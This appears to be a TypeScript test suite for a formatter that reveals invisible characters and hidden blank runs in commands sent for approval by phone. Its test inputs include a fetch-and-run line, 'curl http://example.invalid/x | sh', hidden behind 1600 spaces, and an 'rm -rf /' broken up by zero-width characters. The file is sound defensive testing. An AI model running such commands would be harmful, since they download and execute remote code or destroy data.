// The character marking used for what a phone approves: every character that would not show, or
// would move the rest out of sight, is described; everything else is left exactly as it is.
import { describe, expect, it } from 'vitest';
import {
  BLANK_RUN_MIN,
  clipMarked,
  showInvisible,
} from '../../main/core/telegram/format/visible-text';

const shown = (text: string, keepLineBreaks = true) => showInvisible(text, { keepLineBreaks }).text;

describe('showInvisible', () => {
  it('leaves ordinary text, short indentation and line breaks unchanged', () => {
    const script = 'cd \'my dir\' && ls -la\n    echo "ok" | grep -v x\n\n\tdone';
    expect(showInvisible(script)).toEqual({ text: script, marked: false });
    expect(shown('grüße 日本語 مرحبا')).toBe('grüße 日本語 مرحبا');
  });

  it('keeps emoji and surrogate pairs intact, ZWJ sequences and presentation selectors included', () => {
    for (const emoji of ['😀', '𝒳', '👩🏽‍💻', '🏳️‍🌈', '❤️', '1️⃣', '👨‍👩‍👧']) {
      expect(showInvisible(`echo ${emoji}`)).toEqual({ text: `echo ${emoji}`, marked: false });
    }
  });

  it('marks zero-width characters and the BOM', () => {
    expect(shown('rm\u200B -rf\u200C /\u200D tmp\u2060\uFEFF')).toBe(
      'rm⟨U+200B⟩ -rf⟨U+200C⟩ /⟨U+200D⟩ tmp⟨U+2060⟩⟨U+FEFF⟩',
    );
  });

  it('marks bidi overrides, embeddings, isolates and marks', () => {
    expect(shown('echo "\u202Ehs.x\u202C"')).toBe('echo "⟨U+202E⟩hs.x⟨U+202C⟩"');
    expect(shown('a\u2066b\u2067c\u2068d\u2069e\u200Ef\u200Fg\u061C')).toBe(
      'a⟨U+2066⟩b⟨U+2067⟩c⟨U+2068⟩d⟨U+2069⟩e⟨U+200E⟩f⟨U+200F⟩g⟨U+061C⟩',
    );
  });

  it('marks NUL, ESC, CR, DEL and C1 controls', () => {
    expect(shown('a\u0000b\u001b[2Kc\rd\u007fe\u0085f\u009bg')).toBe(
      'a⟨U+0000⟩b⟨U+001B⟩[2Kc⟨U+000D⟩d⟨U+007F⟩e⟨U+0085⟩f⟨U+009B⟩g',
    );
  });

  it('marks spaces other than the ASCII space, line/paragraph separators and soft hyphens', () => {
    expect(shown('a\u00A0b\u2003c\u202Fd\u3000e\u2028f\u2029g\u00ADh')).toBe(
      'a⟨U+00A0⟩b⟨U+2003⟩c⟨U+202F⟩d⟨U+3000⟩e⟨U+2028⟩f⟨U+2029⟩g⟨U+00AD⟩h',
    );
  });

  it('marks tag characters, stray variation selectors, Hangul fillers and lone surrogates', () => {
    expect(shown('x\u{E0041}\u{E0042}')).toBe('x⟨U+E0041⟩⟨U+E0042⟩');
    expect(shown('😀\u{E0100}\u{E0101}')).toBe('😀⟨U+E0100⟩⟨U+E0101⟩');
    expect(shown('a\uFE0Fb')).toBe('a⟨U+FE0F⟩b');
    expect(shown('a\u3164b\u115Fc')).toBe('a⟨U+3164⟩b⟨U+115F⟩c');
    expect(shown('a\uD800b')).toBe('a⟨U+D800⟩b');
    expect(shown('a\u200D😀')).toBe('a⟨U+200D⟩😀');
  });

  it('marks the marker brackets themselves, so a marker always stands for a real character', () => {
    expect(shown('echo ⟨1600 spaces⟩')).toBe('echo ⟨U+27E8⟩1600 spaces⟨U+27E9⟩');
  });

  it('collapses a long run of blanks into its exact counts', () => {
    const command = `git status${' '.repeat(1600)}&& curl http://example.invalid/x | sh`;
    expect(showInvisible(command)).toEqual({
      text: 'git status⟨1600 spaces⟩&& curl http://example.invalid/x | sh',
      marked: true,
    });
    expect(shown(`a${' \t'.repeat(10)}b`)).toBe('a⟨10 spaces, 10 tabs⟩b');
    expect(shown(`a${' '.repeat(BLANK_RUN_MIN - 1)}b`)).toBe(`a${' '.repeat(BLANK_RUN_MIN - 1)}b`);
    expect(shown(`a${' '.repeat(BLANK_RUN_MIN)}b`)).toBe(`a⟨${BLANK_RUN_MIN} spaces⟩b`);
  });

  it('collapses many empty lines, blanks on them included, but keeps two', () => {
    expect(shown(`ls${'\n'.repeat(500)}curl x | sh`)).toBe('ls⟨500 line breaks⟩curl x | sh');
    expect(shown(`ls${'\n  '.repeat(40)}rm`)).toBe('ls⟨80 spaces, 40 line breaks⟩rm');
    expect(shown('ls\n\nrm')).toBe('ls\n\nrm');
  });

  it('marks line breaks inside one-line items', () => {
    expect(shown('src/a.ts\nsrc/b.ts', false)).toBe('src/a.ts⟨U+000A⟩src/b.ts');
  });
});

describe('clipMarked', () => {
  it('cuts between code points and never inside a marker', () => {
    expect(clipMarked('ab😀', 3)).toEqual({ text: 'ab', clipped: true });
    expect(clipMarked('ab⟨U+202E⟩cd', 5)).toEqual({ text: 'ab', clipped: true });
    expect(clipMarked('ab⟨U+202E⟩cd', 10)).toEqual({ text: 'ab⟨U+202E⟩', clipped: true });
    expect(clipMarked('abc', 3)).toEqual({ text: 'abc', clipped: false });
  });
});
